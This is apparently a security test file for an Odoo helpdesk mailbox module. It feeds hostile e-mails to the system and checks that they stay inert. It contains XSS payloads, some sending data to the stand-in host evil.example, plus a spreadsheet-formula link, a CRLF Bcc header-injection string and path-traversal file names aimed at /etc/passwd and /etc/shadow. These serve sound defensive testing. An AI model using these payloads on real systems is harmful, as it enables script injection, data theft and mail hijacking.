"""Holes that were found in other helpdesks, tried here (docs/ADVISORIES.md)."""

import base64
import json
import re

from lxml import html

from odoo.tests import HttpCase, new_test_user, tagged

from odoo.addons.web.controllers.export import CSVExport

from .common import CUSTOMER, MailboxCase, MailboxMixin, mail
from .peers.scripted import Script, ScriptedServer
from .smtp_common import SmtpCase

NESTED = "<scr<script>ipt>steal()</scr</script>ipt>"  # runs once it was cleaned badly
PAYLOADS = (
    "<script>steal()</script>",
    '<img src="x" onerror="steal()">',
    '<svg onload="steal()"><script>steal()</script></svg>',
    '<a href="javascript:steal()">x</a>',
    '<a href="  java\tscript:steal()">x</a>',
    '<a href="data:text/html,<script>steal()</script>">x</a>',
    '<base href="https://evil.example/steal/">',
    '<form action="https://evil.example/steal"><input name="p"/></form>',
    '<iframe srcdoc="<script>steal()</script>"></iframe>',
    '<object data="steal.swf"></object><embed src="steal.swf">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/steal">',
    '<link rel="stylesheet" href="https://evil.example/steal.css">',
    "<style>@import 'https://evil.example/steal.css';</style>",
    NESTED,
    "<math><mtext><table><mglyph><style><img src=x onerror=steal()>",
    "<noscript><p title='</noscript><img src=x onerror=steal()>'>",
)
RUNNING_TAGS = frozenset(
    "script iframe object embed base form meta link style noscript".split()
)
RUNNING_ADDRESS = re.compile("(javascript|vbscript|data:text)", re.I)
NO_LETTER = re.compile(r"[\x00-\x20]")  # browsers read addresses without these
MARKUP = "<img src=x onerror=steal()>"


def running(markup):
    """What would run, or be sent elsewhere, in HTML (list of str)."""
    if not markup:
        return []
    found = []
    for element in html.fragment_fromstring(str(markup), create_parent=True).iter():
        if element.tag in RUNNING_TAGS:
            found.append(element.tag)
        for name, value in element.attrib.items():
            address = NO_LETTER.sub("", value)
            if name.startswith("on") or RUNNING_ADDRESS.match(address):
                found.append(f"{name}={value}")
    return found


class TestStoredScripts(MailboxCase):
    def assertInert(self, markup):
        self.assertEqual(running(markup), [], markup)

    def test_what_runs_is_found(self):
        self.assertEqual([one for one in PAYLOADS if not running(one)], [NESTED])

    def test_nothing_of_a_mail_runs_in_the_history_or_the_description(self):
        for payload in PAYLOADS:
            with self.subTest(payload):
                body = f"<p>Hi</p>{payload}<p>end</p>"
                ticket = self.case_of(mail("Hi", html=body))
                self.assertInert(ticket.description)
                for entry in ticket.message_ids:
                    self.assertInert(entry.body)

    def test_what_is_left_out_takes_no_text_with_it(self):
        body = "<p>Hi</p><embed src=x><object data=x><p>IN</p></object><p>end</p>"
        ticket = self.case_of(mail("Hi", html=body))
        for shown in (ticket.description, self.history(ticket).body):
            self.assertIn("<p>IN</p>", shown)
            self.assertIn("<p>end</p>", shown)

    def test_nor_of_what_only_quotes_it(self):
        """What stands below an answer is the customer's HTML a second time."""
        for payload in PAYLOADS:
            with self.subTest(payload):
                ticket = self.case_of(mail("Hi", html=f"<p>Hi</p>{payload}"))
                ticket.with_user(self.agent).message_post(
                    body="An answer",
                    message_type="comment",
                    subtype_xmlid="mail.mt_comment",
                )
                sent = self.env["mail.mail"].search([("res_id", "=", ticket.id)])
                self.assertTrue(sent)
                for each in sent:
                    self.assertInert(each.body_html)

    def test_names_subjects_and_header_fields_are_text_in_our_notes(self):
        self.mailbox.accept_notifications = False
        ticket = self.case_of(
            mail(
                Subject=MARKUP,
                From=f'"{MARKUP}" <{CUSTOMER}>',
                Reply_To=f'"{MARKUP}" <{CUSTOMER}>',
                files=[(f"{MARKUP}.exe", b"MZ")],
                message_id="<first@customer.example>",
            )
        )
        self.fetch(
            mail(
                MARKUP,
                Subject=f"Re: {MARKUP}",
                In_Reply_To="<first@customer.example>",
                Auto_Submitted=f"auto-replied ({MARKUP})",
            )
        )
        for entry in ticket.message_ids:
            self.assertInert(entry.body)
        for row in self.rows():
            for name, field in row._fields.items():
                if field.type == "html":
                    self.assertInert(row[name])
        self.assertIn("<img", ticket.name, "a title is text, and shown as text")

    def test_a_try_of_a_message_shows_text(self):
        window = self.env["fetchmail.try.message"].with_user(self.manager).create({})
        fields = window._fields.items()
        self.assertEqual([name for name, field in fields if field.type == "html"], [])


class TestWhatAMailDecides(MailboxCase):
    def test_no_header_and_no_line_of_a_mail_sets_a_field(self):
        """Mass assignment: others take fields from headers or the first lines."""
        plain = self.case_of(mail(message_id="<1@x.example>"))
        given = self.case_of(
            mail(
                "user_id: 2\nstage: Done\n#close\n@assign admin\n",
                message_id="<2@x.example>",
                X_Odoo_Objects="helpdesk.ticket-1",
                X_Zammad_Ticket_Priority="3 high",
                X_OTRS_Queue="Secret",
                X_Priority="1",
                Importance="high",
                X_Odoo_Message_Id="<x@x.example>",
            )
        )
        for name in (
            *("user_id", "team_id", "stage_id", "priority", "category_id", "tag_ids"),
            *("company_id", "partner_id", "closed", "active", "mailbox_id"),
        ):
            self.assertEqual(given[name], plain[name], name)

    def test_an_archive_is_a_file_and_is_not_opened(self):
        """A bomb costs what its bytes cost."""
        bomb = b"PK\x03\x04" + b"\0" * 1000
        ticket = self.case_of(mail(files=[("bomb.zip", bomb)]))
        files = self.history(ticket).attachment_ids
        self.assertEqual((files.name, files.raw), ("bomb.zip", bomb))

    def test_a_file_name_leads_nowhere(self):
        names = ("../../../etc/passwd", "..\\..\\boot.ini", "/etc/shadow", "a\0b.txt")
        for name in names:
            with self.subTest(name):
                encoded = base64.b64encode(name.encode()).decode()
                raw = mail(files=[("NAME", b"content")]).replace(
                    b'"NAME"', f'"=?utf-8?b?{encoded}?="'.encode()
                )
                attachment = self.history(self.case_of(raw)).attachment_ids
                self.assertEqual(attachment.raw, b"content")
                self.assertNotRegex(attachment.store_fname or "", r"\.\.|passwd|shadow")

    def test_pictures_from_elsewhere_are_fetched_by_nobody(self):
        """SSRF: neither to show nor to quote nor to notify is anything asked for."""
        with ScriptedServer(Script(b"", [(rb".*", b"")])) as server:
            place = f"http://127.0.0.1:{server.port}/steal"
            body = f'<p>Hi</p><img src="{place}.png"><a href="{place}">x</a>'
            ticket = self.case_of(mail("Hi", html=body))
            ticket.with_user(self.agent).message_post(
                body="An answer",
                message_type="comment",
                subtype_xmlid="mail.mt_comment",
            )
            self.assertEqual(server.seen, [])

    def test_a_title_that_is_a_formula_is_text_in_an_export(self):
        ticket = self.case_of(mail(Subject='=HYPERLINK("https://evil.example")'))
        exported = CSVExport().from_data([], ["Title"], [[ticket.name]])
        self.assertIn("\"'=HYPERLINK", exported)


class TestWhatLeaves(SmtpCase):
    def test_no_line_break_of_a_mail_makes_a_header_field_of_ours(self):
        broken = b"=?utf-8?q?Hi=0D=0ABcc=3A_eve=40evil=2Eexample=0D=0A?="
        raw = mail(Subject="SUBJECT", From=f"NAME <{CUSTOMER}>")
        ticket = self.case_of(raw.replace(b"SUBJECT", broken).replace(b"NAME", broken))
        self.answer(ticket)
        sent = self.sent_to(CUSTOMER)
        self.assertFalse(self.receiver.to("eve@evil.example"))
        self.assertNotRegex(sent.raw.decode("latin-1"), r"(?im)^bcc:")

    def test_our_mail_tells_nobody_when_it_is_read(self):
        """No picture, no script and no address of ours that a reader would fetch."""
        ticket = self.case_of(mail())
        self.answer(ticket)
        text = self.sent_to(CUSTOMER).raw.decode("latin-1")
        base = self.env["ir.config_parameter"].sudo().get_param("web.base.url")
        for part in (
            "<img",
            "<script",
            "/mail/track",
            "Disposition-Notification",
            base,
        ):
            self.assertNotIn(part, text)

    def answer(self, ticket):
        ticket.with_user(self.agent).message_post(
            body="We look into it.",
            message_type="comment",
            subtype_xmlid="mail.mt_comment",
        )
        self.send_queue()


@tagged("post_install", "-at_install")
class TestPages(MailboxMixin, HttpCase):
    """Tickets, files and mails by their numbers, for people who may not see them."""

    def setUp(self):
        super().setUp()
        files = [("secret.txt", b"SECRET"), ("page.html", b"<script>steal()</script>")]
        files.append(
            ("x.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>")
        )
        self.ticket = self.case_of(mail("The SECRET text", files=files))
        self.files = self.history(self.ticket).attachment_ids
        self.other = new_test_user(
            self.env,
            "other-customer",
            "base.group_portal",
            context={"no_reset_password": True},
            email="other@elsewhere.example",
        )
        company = self.env["res.company"].create({"name": "Theirs Inc."})
        self.stranger = new_test_user(
            self.env,
            "other-agent",
            "helpdesk_mgmt.group_helpdesk_user",
            context={"no_reset_password": True},
            company_id=company.id,
            company_ids=[(6, 0, company.ids)],
        )
        self.env.flush_all()

    def people(self):
        for user in (None, self.other, self.stranger):
            self.authenticate(user and user.login, user and user.login)
            with self.subTest(user.login if user else "nobody"):
                yield user

    def assertNothing(self, path, **options):
        answer = self.url_open(path, allow_redirects=False, **options)
        self.assertNotIn(b"SECRET", answer.content)
        self.assertNotIn("secret.txt", answer.text)
        return answer

    def test_files_of_a_ticket(self):
        for _user in self.people():
            for attachment in self.files:
                for path in (
                    f"/web/content/{attachment.id}",
                    f"/web/content/{attachment.id}?download=true",
                    f"/web/content/{attachment.id}?access_token=x",
                    f"/web/content/ir.attachment/{attachment.id}/datas",
                    f"/web/image/{attachment.id}",
                ):
                    self.assertNothing(path)

    def test_no_file_of_a_mail_has_a_key_that_opens_it(self):
        self.assertFalse(any(self.files.mapped("access_token")))
        self.assertFalse(any(self.files.mapped("public")))

    def test_the_page_of_a_ticket(self):
        for _user in self.people():
            for token in ("", "?access_token=", "?access_token=x"):
                path = f"/my/ticket/{self.ticket.id}{token}"
                self.assertNotEqual(self.assertNothing(path).status_code, 200)

    def test_raw_copies_and_records_by_their_numbers(self):
        row = self.rows()
        for _user in self.people():
            for path in (
                f"/web/content/fetchmail.message/{row.id}/raw",
                f"/web/content/fetchmail.server/{self.mailbox.id}/password",
                f"/web/content/helpdesk.ticket/{self.ticket.id}/description",
                f"/web/content/mail.message/{self.history(self.ticket).id}/body",
                f"/odoo/helpdesk-mailboxes/{self.mailbox.id}",
                f"/mail/message/{self.history(self.ticket).id}",
            ):
                self.assertNothing(path)

    def test_calls_by_people_who_have_no_business_there(self):
        calls = (
            ("helpdesk.ticket", "read", [self.ticket.ids, ["name", "description"]]),
            ("mail.message", "read", [self.history(self.ticket).ids, ["body"]]),
            ("fetchmail.message", "read", [self.rows().ids, ["subject", "raw"]]),
            ("fetchmail.message", "action_release", [self.rows().ids]),
            ("fetchmail.message", "action_download", [self.rows().ids]),
            ("ir.attachment", "read", [self.files.ids, ["name", "datas"]]),
        )
        for user in self.people():
            if not user:
                continue
            for model, method, args in calls:
                with self.subTest(f"{user.login}: {model}.{method}"):
                    answer = self.call(model, method, args)
                    self.assertIn("error", answer.json())
                    self.assertNotIn("SECRET", answer.text)

    def call(self, model, method, args):
        words = {"model": model, "method": method, "args": args, "kwargs": {}}
        return self.url_open(
            f"/web/dataset/call_kw/{model}/{method}",
            data=json.dumps({"params": words}),
            headers={"Content-Type": "application/json"},
        )

    def test_what_a_customer_sent_does_not_run_when_an_agent_opens_it(self):
        self.authenticate(self.agent.login, self.agent.login)
        for attachment in self.files:
            with self.subTest(attachment.name):
                answer = self.url_open(f"/web/content/{attachment.id}")
                self.assertEqual(answer.status_code, 200)
                policy = answer.headers.get("Content-Security-Policy", "")
                self.assertIn("default-src 'none'", policy)
                self.assertEqual(answer.headers["X-Content-Type-Options"], "nosniff")

    def test_a_file_name_makes_no_header_field(self):
        encoded = base64.b64encode(b"a\r\nX-Evil: 1\r\n.exe").decode()
        raw = mail(files=[("NAME", b"MZ")]).replace(
            b'"NAME"', f'"=?utf-8?b?{encoded}?="'.encode()
        )
        row = self.fetch_one(raw)
        self.authenticate(self.agent.login, self.agent.login)
        answer = self.url_open(row.left_out_ids._url())
        self.assertEqual(answer.content, b"MZ")
        self.assertNotIn("X-Evil", answer.headers)

    def test_the_portal_shows_what_a_mail_said_as_text(self):
        customer = new_test_user(
            self.env,
            "this-customer",
            "base.group_portal",
            context={"no_reset_password": True},
            email=CUSTOMER,
        )
        ticket = self.case_of(mail("Hi", html=f"<p>x{MARKUP}</p>", Subject=MARKUP))
        ticket.partner_id = customer.partner_id
        ticket.message_subscribe(customer.partner_id.ids)
        self.env.flush_all()
        self.authenticate(customer.login, customer.login)
        page = self.url_open(f"/my/ticket/{ticket.id}")
        self.assertEqual(page.status_code, 200)
        shown = html.document_fromstring(page.content)
        self.assertIn(MARKUP, shown.text_content())
        self.assertEqual(shown.xpath("//img[@onerror]"), [])
